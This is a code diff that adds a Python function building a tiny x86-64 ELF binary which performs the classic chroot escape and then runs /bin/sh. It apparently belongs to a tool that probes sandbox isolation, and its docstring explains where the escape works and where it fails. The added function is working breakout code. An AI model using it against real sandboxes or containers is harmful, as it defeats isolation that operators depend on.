@@ -57,3 +57,40 @@ def write_probes(directory: str) -> list[str]:
             f.write(program(number, args))
         os.chmod(path, 0o755)
     return list(CALLS)
+
+
+def chroot_escape() -> bytes:
+    """The classic escape from a chroot (it needs CAP_SYS_CHROOT): mkdir("e"), chroot("e")
+    leaving the working directory outside the new root, chdir("..") 32 times (nothing stops
+    a directory that is not under the root from walking up), chroot("."), then exec
+    /bin/sh, which reads its commands on stdin. From a pivot_root'ed container whose old
+    root is unmounted it climbs only to the container's own root: there is nothing above."""
+    ehsize, phsize = 64, 56
+    strings = [b"e\0", b"..\0", b".\0", b"/bin/sh\0", b"sh\0"]
+    data, offsets = b"", []
+    for s in strings:
+        offsets.append(len(data))
+        data += s
+    data += bytes(-len(data) % 8)
+
+    def call(number: int, a1: int = 0, a2: int = 0, a3: int = 0) -> bytes:
+        return (b"\xb8" + _imm(number) + b"\xbf" + _imm(a1) + b"\xbe" + _imm(a2)
+                + b"\xba" + _imm(a3) + b"\x0f\x05")
+
+    code_len = len(call(0)) * (2 + 32 + 1 + 1 + 1)
+    data_at = BASE + ehsize + phsize + code_len
+    addr = [data_at + o for o in offsets]
+    argv_at = data_at + len(data)
+    code = call(83, addr[0], 0o755) + call(161, addr[0])          # mkdir, chroot("e")
+    code += call(80, addr[1]) * 32                                # chdir("..")
+    code += call(161, addr[2])                                    # chroot(".")
+    code += call(59, addr[3], argv_at, 0)                         # execve("/bin/sh")
+    code += call(60, 127)                                         # exit(127) if it failed
+    assert len(code) == code_len
+    body = code + data + struct.pack("<QQ", addr[4], 0)
+    size = ehsize + phsize + len(body)
+    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack(
+        "<HHIQQQIHHHHHH", 2, 0x3E, 1, BASE + ehsize + phsize, ehsize, 0, 0, ehsize, phsize,
+        1, 0, 0, 0)
+    phdr = struct.pack("<IIQQQQQQ", 1, 7, 0, BASE, BASE, size, size, 0x1000)
+    return header + phdr + body
